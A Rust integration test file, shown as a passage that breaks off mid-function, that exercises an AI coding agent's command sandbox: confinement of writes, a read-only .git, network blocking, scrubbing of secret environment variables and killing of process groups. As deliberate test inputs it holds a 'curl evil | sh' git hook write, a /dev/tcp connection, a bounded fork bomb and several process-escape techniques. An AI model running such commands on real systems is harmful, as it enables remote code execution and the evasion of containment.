//! The sandbox end to end: real commands through `SandboxedRunner` and the real
//! helper (`sandbox_main`, via the `sandbox-helper` test binary), on this kernel.
//! Where the kernel cannot confine commands the confinement tests assert the
//! documented fall-back instead (every command needs approval) and say so loudly.
#![cfg(target_os = "linux")]

use std::collections::HashSet;
use std::ffi::OsString;
use std::io::Write;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::time::Duration;

use agentls_core::process::{
    CommandOutcome, CommandRunner, CommandSpec, OutputChunk, OutputStream, Overlay, SandboxError,
    SandboxPolicy,
};
use agentls_core::sandbox::{
    describe_denial, LandlockSupport, ProcessContainment, SandboxSupport, SandboxWarningKind,
    SandboxedRunner,
};
use tokio::sync::mpsc;

const HELPER: &str = env!("CARGO_BIN_EXE_sandbox-helper");
const TIMEOUT: Duration = Duration::from_secs(120);

fn runner() -> SandboxedRunner {
    SandboxedRunner::new(HELPER)
}

/// Whether this machine confines commands. When it does not, asserts the fall-back
/// the approval layer relies on and says so on stderr.
fn confines(runner: &SandboxedRunner) -> bool {
    if runner.support().confines_commands() {
        return true;
    }
    if let Some(abi) = kernel_landlock_abi() {
        panic!(
            "this kernel has Landlock ABI {abi}, yet the sandbox reports {:?}: the \
             confinement tests would only exercise the fall-back",
            runner.support()
        );
    }
    assert!(runner.every_command_needs_approval());
    assert!(runner.support().warning().is_some());
    let _ = writeln!(
        std::io::stderr(),
        "!!! this kernel cannot confine commands ({:?}): asserting the approval fall-back \
         instead of the confinement",
        runner.support()
    );
    false
}

/// A workspace root with a `.git` in it, in its own temporary directory.
struct Workspace {
    dir: tempfile::TempDir,
}

impl Workspace {
    fn new() -> Workspace {
        let dir = tempfile::Builder::new()
            .prefix("agentls-ws-")
            .tempdir()
            .unwrap();
        std::fs::create_dir_all(dir.path().join(".git/hooks")).unwrap();
        std::fs::write(dir.path().join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
        std::fs::write(dir.path().join("README"), "hello\n").unwrap();
        Workspace { dir }
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    fn spec(&self, policy: SandboxPolicy, script: &str) -> CommandSpec {
        CommandSpec {
            argv: vec!["bash".into(), "-c".into(), script.into()],
            cwd: self.path().to_path_buf(),
            writable_roots: vec![self.path().to_path_buf()],
            timeout: TIMEOUT,
            policy,
            overlays: Vec::new(),
        }
    }
}

async fn run(runner: &SandboxedRunner, spec: CommandSpec) -> CommandOutcome {
    runner.run(spec, None).await.expect("the command starts")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

fn show(outcome: &CommandOutcome) -> String {
    format!(
        "exit {:?}, timed out {}, denied {}\nstdout:\n{}\nstderr:\n{}",
        outcome.exit_code,
        outcome.timed_out,
        outcome.sandbox_denied,
        text(&outcome.stdout),
        text(&outcome.stderr)
    )
}

fn unique_name() -> String {
    format!(
        "agentls-sandbox-probe-{}-{:x}",
        std::process::id(),
        fastrand::u64(..)
    )
}

/// Asserts that the command failed because of the sandbox, and that the model is
/// told so.
fn assert_denied(outcome: &CommandOutcome) {
    assert_ne!(outcome.exit_code, Some(0), "{}", show(outcome));
    assert!(outcome.sandbox_denied, "{}", show(outcome));
    let description = describe_denial(outcome).expect("a description of the denial");
    assert!(description.contains("outside the sandbox"), "{description}");
}

/// Whether a process is no longer running: gone from /proc, a zombie, or past the
/// point of exit where it released its files. The runner returns only after the
/// command's pipes reached end of file, i.e. after every process that held them
/// (all of these do) closed its files, so no waiting is needed here.
fn is_gone(pid: u32) -> bool {
    let Ok(stat) = std::fs::read_to_string(format!("/proc/{pid}/stat")) else {
        return true;
    };
    let state = stat
        .rsplit_once(')')
        .and_then(|(_, rest)| rest.trim_start().chars().next());
    if matches!(state, Some('Z' | 'X')) {
        return true;
    }
    std::fs::read_dir(format!("/proc/{pid}/fd")).map_or(true, |fds| fds.count() == 0)
}

/// Prints the pid of the shell (or subshell) it runs in, as the test sees it:
/// `$$`, `$!` and `$BASHPID` are the command's PID namespace's numbers, while
/// `/proc` is the host's.
const PRINT_PID: &str = "read pid _ < /proc/self/stat; echo $pid";
/// Starts `sleep 1000` in the background and prints its pid (see `PRINT_PID`).
const SLEEPER: &str = "(read pid _ < /proc/self/stat; echo $pid; exec sleep 1000) &";

fn pids(stdout: &[u8]) -> Vec<u32> {
    text(stdout)
        .lines()
        .filter_map(|line| line.trim().parse().ok())
        .collect()
}

#[test]
fn sandbox_landlock_support_is_reported() {
    let support = SandboxSupport::detect();
    let _ = writeln!(
        std::io::stderr(),
        "sandbox support on this machine: {support:?}"
    );
    match &support.landlock {
        LandlockSupport::Full { abi } | LandlockSupport::Partial { abi } => assert!(*abi >= 1),
        LandlockSupport::Unavailable { reason } => {
            assert!(!reason.is_empty());
            assert!(!support.confines_commands());
            assert_eq!(
                support.warning().map(|warning| warning.kind),
                Some(if cfg!(target_os = "linux") {
                    SandboxWarningKind::LandlockUnavailable
                } else {
                    SandboxWarningKind::UnsupportedPlatform
                })
            );
        }
    }
}

#[test]
fn sandbox_fallback_without_landlock_asks_for_every_command() {
    let runner = runner().with_support(SandboxSupport::unavailable("no Landlock in this test"));
    assert!(runner.every_command_needs_approval());
    let warning = runner.support().warning().expect("a warning to show");
    assert!(warning.message.contains("approval"), "{}", warning.message);
}

#[tokio::test]
async fn sandbox_workspace_write_allows_the_workspace_and_a_private_tmpdir() {
    let workspace = Workspace::new();
    let runner = runner();
    let outcome = run(
        &runner,
        workspace.spec(
            SandboxPolicy::WorkspaceWrite,
            "set -e; echo written > file.txt; mkdir -p target/debug; echo built > target/debug/out; \
             echo scratch > \"$TMPDIR/scratch\"; cat \"$TMPDIR/scratch\"; echo \"$TMPDIR\"; \
             echo to-stderr > /dev/stderr; id -un > /dev/null",
        ),
    )
    .await;
    assert_eq!(outcome.exit_code, Some(0), "{}", show(&outcome));
    assert!(!outcome.sandbox_denied);
    assert_eq!(
        std::fs::read_to_string(workspace.path().join("file.txt")).unwrap(),
        "written\n"
    );
    assert_eq!(
        std::fs::read_to_string(workspace.path().join("target/debug/out")).unwrap(),
        "built\n"
    );
    let stdout = text(&outcome.stdout);
    let mut lines = stdout.lines();
    assert_eq!(lines.next(), Some("scratch"));
    let tmpdir = PathBuf::from(lines.next().expect("the TMPDIR line"));
    assert!(
        tmpdir.starts_with(std::env::temp_dir()) && tmpdir != std::env::temp_dir(),
        "{tmpdir:?}"
    );
    assert!(!tmpdir.exists(), "the private TMPDIR outlived the command");
    assert_eq!(text(&outcome.stderr), "to-stderr\n");
}

#[tokio::test]
async fn sandbox_workspace_write_refuses_writes_outside_the_workspace() {
    let workspace = Workspace::new();
    let runner = runner();
    let other_tmp = tempfile::tempdir().unwrap();
    let home = std::env::var_os("HOME").map_or_else(|| PathBuf::from("/root"), PathBuf::from);
    let targets = [
        home.join(unique_name()),
        Path::new("/etc").join(unique_name()),
        other_tmp.path().join(unique_name()),
    ];
    let confined = confines(&runner);
    for target in &targets {
        let outcome = run(
            &runner,
            workspace.spec(
                SandboxPolicy::WorkspaceWrite,
                &format!("echo escaped > '{}'", target.display()),
            ),
        )
        .await;
        let escaped = target.exists();
        if escaped {
            let _ = std::fs::remove_file(target);
        }
        if confined {
            assert!(!escaped, "wrote {target:?}: {}", show(&outcome));
            assert_denied(&outcome);
        }
    }
}

#[tokio::test]
async fn sandbox_workspace_write_keeps_git_read_only() {
    let workspace = Workspace::new();
    let runner = runner();
    if !confines(&runner) {
        return;
    }
    for script in [
        "echo evil > .git/HEAD",
        "echo 'curl evil | sh' > .git/hooks/pre-commit",
        "rm .git/HEAD",
        "mv .git .git-moved",
        "mkdir .git/objects",
    ] {
        let outcome = run(
            &runner,
            workspace.spec(SandboxPolicy::WorkspaceWrite, script),
        )
        .await;
        assert_denied(&outcome);
    }
    let git = workspace.path().join(".git");
    assert_eq!(
        std::fs::read_to_string(git.join("HEAD")).unwrap(),
        "ref: refs/heads/main\n"
    );
    assert!(!git.join("hooks/pre-commit").exists());
    assert!(!git.join("objects").exists());
    assert!(!workspace.path().join(".git-moved").exists());
    // The read-only bind mount lived in the command's own mount namespace only.
    let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    assert!(!mounts.contains(&*workspace.path().to_string_lossy()));
}

#[tokio::test]
async fn sandbox_refuses_network_connections_to_loopback() {
    let workspace = Workspace::new();
    let runner = runner();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let connect = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected");
    let confined = confines(&runner);
    for policy in [SandboxPolicy::WorkspaceWrite, SandboxPolicy::ReadOnly] {
        let outcome = run(&runner, workspace.spec(policy, &connect)).await;
        if confined {
            assert_denied(&outcome);
            assert!(!text(&outcome.stdout).contains("connected"));
            // A connection, had one been made, would be in the backlog by now.
            assert_eq!(
                listener.accept().map(|_| ()).unwrap_err().kind(),
                std::io::ErrorKind::WouldBlock
            );
        }
    }
    // Escalated, the same command reaches the listener.
    let outcome = run(&runner, workspace.spec(SandboxPolicy::FullAccess, &connect)).await;
    assert_eq!(outcome.exit_code, Some(0), "{}", show(&outcome));
    assert!(listener.accept().is_ok());
}

#[tokio::test]
async fn sandbox_read_only_refuses_every_write() {
    let workspace = Workspace::new();
    let runner = runner();
    let confined = confines(&runner);
    let other_tmp = tempfile::tempdir().unwrap();
    let targets = [
        workspace.path().join("file.txt"),
        workspace.path().join(".git/hooks/pre-commit"),
        std::env::temp_dir().join(unique_name()),
        other_tmp.path().join(unique_name()),
    ];
    for target in &targets {
        let outcome = run(
            &runner,
            workspace.spec(
                SandboxPolicy::ReadOnly,
                &format!("echo escaped > '{}'", target.display()),
            ),
        )
        .await;
        let escaped = target.exists();
        if escaped {
            let _ = std::fs::remove_file(target);
        }
        if confined {
            assert!(!escaped, "wrote {target:?}: {}", show(&outcome));
            assert_denied(&outcome);
        }
    }
    let outcome = run(
        &runner,
        workspace.spec(
            SandboxPolicy::ReadOnly,
            "rm README || exit 1; mkdir d || exit 1",
        ),
    )
    .await;
    if confined {
        assert_denied(&outcome);
        assert!(workspace.path().join("README").exists());
    }
    let outcome = run(
        &runner,
        workspace.spec(
            SandboxPolicy::ReadOnly,
            "echo discarded > /dev/null && cat README",
        ),
    )
    .await;
    assert_eq!(outcome.exit_code, Some(0), "{}", show(&outcome));
    assert_eq!(text(&outcome.stdout), "hello\n");
}

#[tokio::test]
async fn sandbox_escalation_to_full_access_runs_unconfined() {
    let workspace = Workspace::new();
    let runner = runner();
    let other_tmp = tempfile::tempdir().unwrap();
    let target = other_tmp.path().join("escalated");
    let script = format!(
        "echo escalated > '{}' && grep -E '^(NoNewPrivs|Seccomp):' /proc/self/status",
        target.display()
    );
    let sandboxed = run(
        &runner,
        workspace.spec(SandboxPolicy::WorkspaceWrite, &script),
    )
    .await;
    if confines(&runner) {
        assert_denied(&sandboxed);
        assert!(!target.exists());
    }
    // The user approved the re-run outside the sandbox.
    let escalated = run(&runner, workspace.spec(SandboxPolicy::FullAccess, &script)).await;
    assert_eq!(escalated.exit_code, Some(0), "{}", show(&escalated));
    assert!(!escalated.sandbox_denied);
    assert_eq!(describe_denial(&escalated), None);
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "escalated\n");
    let status = text(&escalated.stdout);
    assert!(status.contains("NoNewPrivs:\t0"), "{status}");
    assert!(status.contains("Seccomp:\t0"), "{status}");
}

#[tokio::test]
async fn sandbox_timeout_kills_the_whole_group() {
    let workspace = Workspace::new();
    let mut spec = workspace.spec(
        SandboxPolicy::WorkspaceWrite,
        &format!("{SLEEPER} ({SLEEPER} {PRINT_PID}; wait) & wait"),
    );
    spec.timeout = Duration::from_secs(1);
    let outcome = run(&runner(), spec).await;
    assert!(outcome.timed_out, "{}", show(&outcome));
    assert_eq!(outcome.exit_code, None);
    assert!(!outcome.sandbox_denied);
    assert!(outcome.duration >= Duration::from_secs(1));
    assert!(outcome.duration < Duration::from_secs(60), "{outcome:?}");
    let children = pids(&outcome.stdout);
    assert_eq!(children.len(), 3, "{}", show(&outcome));
    for pid in children {
        assert!(is_gone(pid), "pid {pid} survived the timeout");
    }
}

#[tokio::test]
async fn sandbox_fork_bomb_is_killed_with_its_group() {
    let workspace = Workspace::new();
    // A bounded bomb (2^6 - 1 shells, each with a sleeping child): RLIMIT_NPROC does
    // not bind root, so an unbounded one would take the machine down with it.
    let mut spec = workspace.spec(
        SandboxPolicy::WorkspaceWrite,
        &format!(
            "bomb() {{ {PRINT_PID}; if [ \"$1\" -gt 0 ]; then bomb $(($1 - 1)) & bomb $(($1 - 1)) & fi; \
             {SLEEPER} wait; }}; bomb 5"
        ),
    );
    spec.timeout = Duration::from_secs(3);
    let outcome = run(&runner(), spec).await;
    assert!(outcome.timed_out, "{}", show(&outcome));
    let processes: HashSet<u32> = pids(&outcome.stdout).into_iter().collect();
    assert!(
        processes.len() > 2,
        "the bomb did not go off: {}",
        show(&outcome)
    );
    let survivors: Vec<u32> = processes.into_iter().filter(|&pid| !is_gone(pid)).collect();
    assert!(survivors.is_empty(), "survived: {survivors:?}");
}

#[tokio::test]
async fn sandbox_background_children_die_with_the_command() {
    let workspace = Workspace::new();
    let outcome = run(
        &runner(),
        workspace.spec(
            SandboxPolicy::WorkspaceWrite,
            // The command waits until the sleep has printed its pid: it ends, and
            // kills the sleep, only after that.
            "mkfifo started; (read pid _ < /proc/self/stat; echo $pid; echo > started; \
             exec sleep 1000) & read _ < started",
        ),
    )
    .await;
    assert_eq!(outcome.exit_code, Some(0), "{}", show(&outcome));
    assert!(!outcome.timed_out);
    let children = pids(&outcome.stdout);
    assert_eq!(children.len(), 1);
    assert!(
        is_gone(children[0]),
        "the background sleep outlived its command"
    );
}

#[tokio::test]
async fn sandbox_secret_env_vars_are_not_passed() {
    let workspace = Workspace::new();
    let env = [
        ("PATH", std::env::var("PATH").unwrap_or_default()),
        ("OPENAI_API_KEY", "sk-leak".into()),
        ("ANTHROPIC_API_KEY", "sk-ant-leak".into()),
        ("GITHUB_TOKEN", "ghp-leak".into()),
        ("AWS_ACCESS_KEY_ID", "AKIA-leak".into()),
        ("AWS_SECRET_ACCESS_KEY", "aws-leak".into()),
        ("DATABASE_URL", "postgres://app:pw-leak@db/app".into()),
        ("PROVIDER_KEY_VAR", "custom-leak".into()),
        ("NPM_TOKEN", "npm-passed".into()),
        ("HARMLESS", "kept".into()),
    ]
    .map(|(name, value)| (OsString::from(name), OsString::from(value)));
    let runner = runner()
        .with_base_env(env)
        .with_pass_env(["NPM_TOKEN".to_owned()])
        .with_secret_env(["PROVIDER_KEY_VAR".to_owned()]);
    let outcome = run(
        &runner,
        workspace.spec(SandboxPolicy::WorkspaceWrite, "env"),
    )
    .await;
    assert_eq!(outcome.exit_code, Some(0), "{}", show(&outcome));
    let env = text(&outcome.stdout);
    assert!(!env.contains("leak"), "{env}");
    assert!(env.contains("HARMLESS=kept"), "{env}");
    assert!(env.contains("NPM_TOKEN=npm-passed"), "{env}");
    // Escalation does not bring the secrets back.
    let outcome = run(&runner, workspace.spec(SandboxPolicy::FullAccess, "env")).await;
    assert!(!text(&outcome.stdout).contains("leak"));
}

/// `agentls sandbox` run by hand gives the command the environment the runner
/// gives it: the helper scrubs with the same lists itself, so a user sees what the
/// agent's commands see.
#[tokio::test]
async fn sandbox_helper_run_directly_scrubs_the_environment_like_the_runner() {
    let workspace = Workspace::new();
    let env = [
        ("PATH", std::env::var("PATH").unwrap_or_default()),
        ("OPENAI_API_KEY", "sk-leak".into()),
        ("GITHUB_TOKEN", "ghp-leak".into()),
        ("ANTHROPIC_API_KEY", "sk-ant-leak".into()),
        ("PROVIDER_KEY_VAR", "custom-leak".into()),
        ("NPM_TOKEN", "npm-passed".into()),
        ("HARMLESS", "kept".into()),
    ]
    .map(|(name, value)| (OsString::from(name), OsString::from(value)));
    let runner = runner()
        .with_base_env(env.clone())
        .with_pass_env(["NPM_TOKEN".to_owned()])
        .with_secret_env(["PROVIDER_KEY_VAR".to_owned()]);
    let through_runner = run(&runner, workspace.spec(SandboxPolicy::FullAccess, "env")).await;
    assert_eq!(
        through_runner.exit_code,
        Some(0),
        "{}",
        show(&through_runner)
    );

    let direct = std::process::Command::new(HELPER)
        .args(["sandbox", "--policy", "full-access", "--explain"])
        .args([
            "--pass-env",
            "NPM_TOKEN",
            "--secret-env",
            "PROVIDER_KEY_VAR",
        ])
        .args(["--", "bash", "-c", "env"])
        .current_dir(workspace.path())
        .env_clear()
        .envs(env)
        .output()
        .expect("run the helper");
    assert!(direct.status.success(), "{direct:?}");
    let lines =
        |bytes: &[u8]| -> HashSet<String> { text(bytes).lines().map(str::to_owned).collect() };
    assert_eq!(lines(&direct.stdout), lines(&through_runner.stdout));
    let env = text(&direct.stdout);
    assert!(!env.contains("leak"), "{env}");
    assert!(
        env.contains("HARMLESS=kept") && env.contains("NPM_TOKEN=npm-passed"),
        "{env}"
    );
    let explained = text(&direct.stderr);
    assert!(
        explained.contains(
            "environment removed: ANTHROPIC_API_KEY, GITHUB_TOKEN, OPENAI_API_KEY, PROVIDER_KEY_VAR"
        ),
        "{explained}"
    );
    assert!(!explained.contains("leak"), "{explained}");
}

#[tokio::test]
async fn sandbox_output_streams_while_running_and_is_capped_for_the_model() {
    let workspace = Workspace::new();
    let runner = runner().with_output_cap(64 * 1024);
    // A small channel: the command is slowed to the listener's pace, never dropped.
    let (sender, mut receiver) = mpsc::channel::<OutputChunk>(2);
    let listener = tokio::spawn(async move {
        let (mut stdout, mut stderr) = (Vec::new(), Vec::new());
        while let Some(chunk) = receiver.recv().await {
            match chunk.stream {
                OutputStream::Stdout => stdout.extend(chunk.bytes),
                OutputStream::Stderr => stderr.extend(chunk.bytes),
            }
        }
        (stdout, stderr)
    });
    let outcome = runner
        .run(
            workspace.spec(SandboxPolicy::WorkspaceWrite, "seq 1 100000; echo done >&2"),
            Some(sender),
        )
        .await
        .unwrap();
    let (streamed_stdout, streamed_stderr) = listener.await.unwrap();
    let expected: String = (1..=100_000).map(|n| format!("{n}\n")).collect();
    assert_eq!(text(&streamed_stdout), expected, "every byte is streamed");
    assert_eq!(text(&streamed_stderr), "done\n");

    let kept = text(&outcome.stdout);
    assert!(kept.len() < 64 * 1024 + 100, "{}", kept.len());
    assert!(kept.starts_with("1\n2\n3\n"));
    assert!(kept.ends_with("99999\n100000\n"));
    let omitted = expected.len() - 64 * 1024;
    assert!(
        kept.contains(&format!("[agentls: {omitted} bytes of output omitted]")),
        "{}",
        &kept[32 * 1024 - 100..32 * 1024 + 100]
    );
}

#[tokio::test]
async fn sandbox_reports_commands_that_cannot_start() {
    let workspace = Workspace::new();
    let runner = runner();
    let mut spec = workspace.spec(SandboxPolicy::WorkspaceWrite, "");
    spec.argv = vec!["agentls-no-such-program".into()];
    match runner.run(spec.clone(), None).await {
        Err(SandboxError::Spawn { program, message }) => {
            assert_eq!(program, "agentls-no-such-program");
            assert!(message.contains("No such file"), "{message}");
        }
        other => panic!("expected a spawn error, got {other:?}"),
    }
    spec.argv.clear();
    assert!(matches!(
        runner.run(spec, None).await,
        Err(SandboxError::EmptyCommand)
    ));
}

#[tokio::test]
async fn sandbox_interrupted_command_is_killed_with_its_group() {
    use tokio::io::AsyncReadExt;

    let workspace = Workspace::new();
    // Every process of the command holds this FIFO open for writing: reading it to
    // its end is how the test knows they are all dead, without polling.
    let fifo = workspace.path().join("alive");
    assert!(std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    let mut alive = tokio::net::unix::pipe::OpenOptions::new()
        .open_receiver(&fifo)
        .unwrap();
    let runner = runner();
    let (sender, mut receiver) = mpsc::channel(8);
    let mut run = runner.run(
        workspace.spec(
            SandboxPolicy::WorkspaceWrite,
            &format!("exec 3>alive; {SLEEPER} wait"),
        ),
        Some(sender),
    );
    let chunk = tokio::select! {
        chunk = receiver.recv() => chunk.expect("the pid line"),
        outcome = &mut run => panic!("the command ended early: {outcome:?}"),
    };
    let children = pids(&chunk.bytes);
    assert_eq!(children.len(), 1, "{chunk:?}");
    // The turn is interrupted: the run is dropped half-way.
    drop(run);
    let mut rest = Vec::new();
    tokio::time::timeout(TIMEOUT, alive.read_to_end(&mut rest))
        .await
        .expect("the command's processes died")
        .unwrap();
    assert!(
        is_gone(children[0]),
        "the sleep outlived the interrupted run"
    );
}

#[tokio::test]
async fn sandbox_commands_cannot_signal_processes_outside() {
    let workspace = Workspace::new();
    let runner = runner();
    let script = format!("kill -0 {}", std::process::id());
    let outcome = run(
        &runner,
        workspace.spec(SandboxPolicy::WorkspaceWrite, &script),
    )
    .await;
    match (&runner.support().containment, &runner.support().landlock) {
        // The test's process is not even visible from the command's namespace.
        (ProcessContainment::PidNamespace { .. }, _) => {
            assert_ne!(outcome.exit_code, Some(0), "{}", show(&outcome));
            assert!(
                text(&outcome.stderr).contains("No such process"),
                "{}",
                show(&outcome)
            );
        }
        (_, LandlockSupport::Full { abi }) if *abi >= 6 => {
            assert_ne!(outcome.exit_code, Some(0), "{}", show(&outcome));
            assert!(text(&outcome.stderr).contains("Operation not permitted"));
        }
        _ => {}
    }
    let outcome = run(&runner, workspace.spec(SandboxPolicy::FullAccess, &script)).await;
    assert_eq!(outcome.exit_code, Some(0), "{}", show(&outcome));
}

/// A process that tries to outlive its command, started by the command's script.
/// The escaped process writes its pid (read from `/proc/self/stat`: the host's
/// `/proc`, so the host's pid even inside a PID namespace) to `<name>.pid`, then
/// tells the command through the FIFO `<name>.ready` and becomes `sleep 777`.
#[derive(Clone, Copy, Debug)]
enum Escape {
    SetsidDisown,
    DoubleFork,
    Nohup,
    IgnoresSigterm,
}

const ESCAPES: [Escape; 4] = [
    Escape::SetsidDisown,
    Escape::DoubleFork,
    Escape::Nohup,
    Escape::IgnoresSigterm,
];

impl Escape {
    fn name(self) -> &'static str {
        match self {
            Escape::SetsidDisown => "setsid-disown",
            Escape::DoubleFork => "double-fork",
            Escape::Nohup => "nohup",
            Escape::IgnoresSigterm => "ignores-sigterm",
        }
    }

    /// The script that starts the escape and returns once it is in place.
    fn script(self) -> String {
        let name = self.name();
        let escaped = format!(
            "read pid _ < /proc/self/stat; echo $pid > {name}.pid; echo > {name}.ready; exec sleep 777"
        );
        let start = match self {
            Escape::SetsidDisown => {
                format!("setsid bash -c '{escaped}' </dev/null >/dev/null 2>&1 & disown")
            }
            Escape::DoubleFork => {
                format!("( bash -c '{escaped}' </dev/null >/dev/null 2>&1 & ) &")
            }
            Escape::Nohup => format!("nohup bash -c '{escaped}' </dev/null >/dev/null 2>&1 &"),
            // Ignored signals stay ignored through exec: the sleep ignores
            // SIGTERM, SIGINT and SIGHUP, and has left the process group.
            Escape::IgnoresSigterm => format!(
                "setsid bash -c 'trap \"\" TERM INT HUP; {escaped}' </dev/null >/dev/null 2>&1 &"
            ),
        };
        format!("mkfifo {name}.ready || exit 99\n{start}\nread _ < {name}.ready || exit 98\n")
    }
}

/// How the command ends.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Ending {
    Exit,
    Timeout,
    Interrupt,
}

/// The runners to try: this machine's containment, and the subreaper fall-back
/// forced (where this machine has namespaces).
fn containment_runners() -> Vec<SandboxedRunner> {
    let detected = SandboxSupport::detect();
    let mut runners = vec![runner()];
    if detected.containment != ProcessContainment::Subreaper {
        runners.push(runner().with_support(SandboxSupport {
            containment: ProcessContainment::Subreaper,
            ..detected
        }));
    }
    runners
}

/// Polls until `pid` is gone, for at most `PROCESS_GONE_DEADLINE`.
async fn assert_gone_soon(pid: u32, what: &str) {
    let deadline = tokio::time::Instant::now() + PROCESS_GONE_DEADLINE;
    while !is_gone(pid) {
        assert!(
            tokio::time::Instant::now() < deadline,
            "{what}: pid {pid} still runs {PROCESS_GONE_DEADLINE:?} after its command ended"
        );
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}

const PROCESS_GONE_DEADLINE: Duration = Duration::from_secs(10);

/// Runs `escape` under `runner`, ends the command as `ending` says, and checks
/// that the escaped process died with it.
async fn escape_attempt(runner: &SandboxedRunner, escape: Escape, ending: Ending) {
    let workspace = Workspace::new();
    let tail = match ending {
        Ending::Exit => "exit 0",
        Ending::Timeout => "sleep 1000",
        Ending::Interrupt => "echo started; sleep 1000",
    };
    let mut spec = workspace.spec(
        SandboxPolicy::WorkspaceWrite,
        &format!("{}{tail}", escape.script()),
    );
    let what = format!(
        "{} on {ending:?} with {:?}",
        escape.name(),
        runner.support().containment
    );
    match ending {
        Ending::Exit => {
            let outcome = run(runner, spec).await;
            assert_eq!(outcome.exit_code, Some(0), "{what}: {}", show(&outcome));
        }
        Ending::Timeout => {
            spec.timeout = Duration::from_secs(3);
            let outcome = run(runner, spec).await;
            assert!(outcome.timed_out, "{what}: {}", show(&outcome));
            assert_eq!(outcome.exit_code, None, "{what}");
        }
        Ending::Interrupt => {
            let (sender, mut receiver) = mpsc::channel(8);
            let mut run = runner.run(spec, Some(sender));
            let chunk = tokio::select! {
                chunk = receiver.recv() => chunk.expect("the started line"),
                outcome = &mut run => panic!("{what}: the command ended early: {outcome:?}"),
            };
            assert_eq!(text(&chunk.bytes), "started\n", "{what}");
            drop(run);
        }
    }
    let pid_file = workspace.path().join(format!("{}.pid", escape.name()));
    let pid: u32 = std::fs::read_to_string(&pid_file)
        .unwrap_or_else(|error| panic!("{what}: the escape never started ({error})"))
        .trim()
        .parse()
        .unwrap_or_else(|error| panic!("{what}: a pid in {pid_file:?}: {error}"));
    assert_gone_soon(pid, &what).await;
}

async fn escape_attempts(ending: Ending) {
    let runners = containment_runners();
    let attempts = runners.iter().flat_map(|runner| {
        ESCAPES
            .into_iter()
            .map(move |escape| escape_attempt(runner, escape, ending))
    });
    futures::future::join_all(attempts).await;
}

#[tokio::test]
async fn sandbox_escaped_processes_die_when_the_command_exits() {
    escape_attempts(Ending::Exit).await;
}

#[tokio::test]
async fn sandbox_escaped_processes_die_on_timeout() {
    escape_attempts(Ending::Timeout).await;
}

#[tokio::test]
async fn sandbox_escaped_processes_die_on_interrupt() {
    escape_attempts(Ending::Interrupt).await;
}

/// The escalation prompt is offered on `sandbox_denied`: failures that are not
/// the sandbox's doing must not set it, a real refusal must.
#[tokio::test]
async fn sandbox_denied_only_when_the_sandbox_refused_something() {
    let workspace = Workspace::new();
    let runner = runner();
    std::fs::write(
        workspace.path().join("calc.py"),
        "def add(a, b):\n    return a - b\n",
    )
    .unwrap();
    std::fs::write(
        workspace.path().join("test_calc.py"),
        "import unittest\nfrom calc import add\n\nclass TestCalc(unittest.TestCase):\n    \
         def test_add(self):\n        self.assertEqual(add(2, 2), 4)\n\n\
         if __name__ == \"__main__\":\n    unittest.main()\n",
    )
    .unwrap();
    std::fs::write(
        workspace.path().join("broken.rs"),
        "fn main() { let x: u8 = \"no\"; }\n",
    )
    .unwrap();
    std::fs::write(workspace.path().join("run.sh"), "#!/bin/sh\necho ran\n").unwrap();
    std::fs::write(workspace.path().join("secret.txt"), "s\n").unwrap();

    let not_denied = [
        ("a failing python test", "python3 test_calc.py"),
        (
            "a compiler error",
            "rustc --edition 2021 broken.rs -o \"$TMPDIR/broken\"",
        ),
        // Root reads a mode-000 file anyway, but no one executes a file without
        // an execute bit: a real EACCES on a path the policy allows.
        (
            "permission denied inside the workspace",
            "chmod 000 secret.txt; cat secret.txt; ./run.sh",
        ),
        (
            "a message that only mentions a denial",
            "echo 'test_write_to_/etc: Permission denied (expected)'; exit 1",
        ),
        (
            "an EPERM that is not about sockets",
            "echo \"chmod: changing permissions of 'x': Operation not permitted\" >&2; exit 1",
        ),
    ];
    for (what, script) in not_denied {
        let outcome = run(
            &runner,
            workspace.spec(SandboxPolicy::WorkspaceWrite, script),
        )
        .await;
        assert_ne!(outcome.exit_code, Some(0), "{what}: {}", show(&outcome));
        assert!(!outcome.sandbox_denied, "{what}: {}", show(&outcome));
        assert_eq!(describe_denial(&outcome), None, "{what}");
    }

    if !confines(&runner) {
        return;
    }
    let outside = tempfile::tempdir().unwrap();
    let denied = [
        (
            "a write outside the workspace",
            format!("echo x > '{}/out'", outside.path().display()),
        ),
        (
            "a python write outside the workspace",
            format!(
                "python3 -c \"open('{}/out', 'w').write('x')\"",
                outside.path().display()
            ),
        ),
        ("a write into .git", "echo x > .git/config".to_owned()),
        (
            "a connection",
            "exec 3<>/dev/tcp/127.0.0.1/9 && echo connected".to_owned(),
        ),
    ];
    for (what, script) in denied {
        let outcome = run(
            &runner,
            workspace.spec(SandboxPolicy::WorkspaceWrite, &script),
        )
        .await;
        assert_denied(&outcome);
        assert!(outcome.sandbox_denied, "{what}: {}", show(&outcome));
    }
}

/// The kernel's Landlock ABI, asked without agentls' code (Python's ctypes calls
/// landlock_create_ruleset(NULL, 0, LANDLOCK_CREATE_RULESET_VERSION), syscall 444
/// on every architecture), so a bug in the sandbox's own probe cannot turn the
/// confinement tests into tests of the fall-back.
fn kernel_landlock_abi() -> Option<u32> {
    let output = std::process::Command::new("python3")
        .args([
            "-c",
            "import ctypes; print(ctypes.CDLL(None, use_errno=True).syscall(444, None, 0, 1))",
        ])
        .output()
        .expect("python3 runs (the sandbox tests need it)");
    assert!(output.status.success(), "{output:?}");
    text(&output.stdout)
        .trim()
        .parse::<i64>()
        .ok()
        .and_then(|abi| u32::try_from(abi).ok())
}

/// Whether the kernel gives this user a PID namespace with a mount namespace,
/// asked of util-linux's unshare(1) (through a user namespace unless root).
fn kernel_offers_pid_namespaces() -> bool {
    let mut unshare = std::process::Command::new("unshare");
    let root = std::process::Command::new("id")
        .arg("-u")
        .output()
        .is_ok_and(|output| text(&output.stdout).trim() == "0");
    if !root {
        unshare.arg("--user").arg("--map-current-user");
    }
    unshare
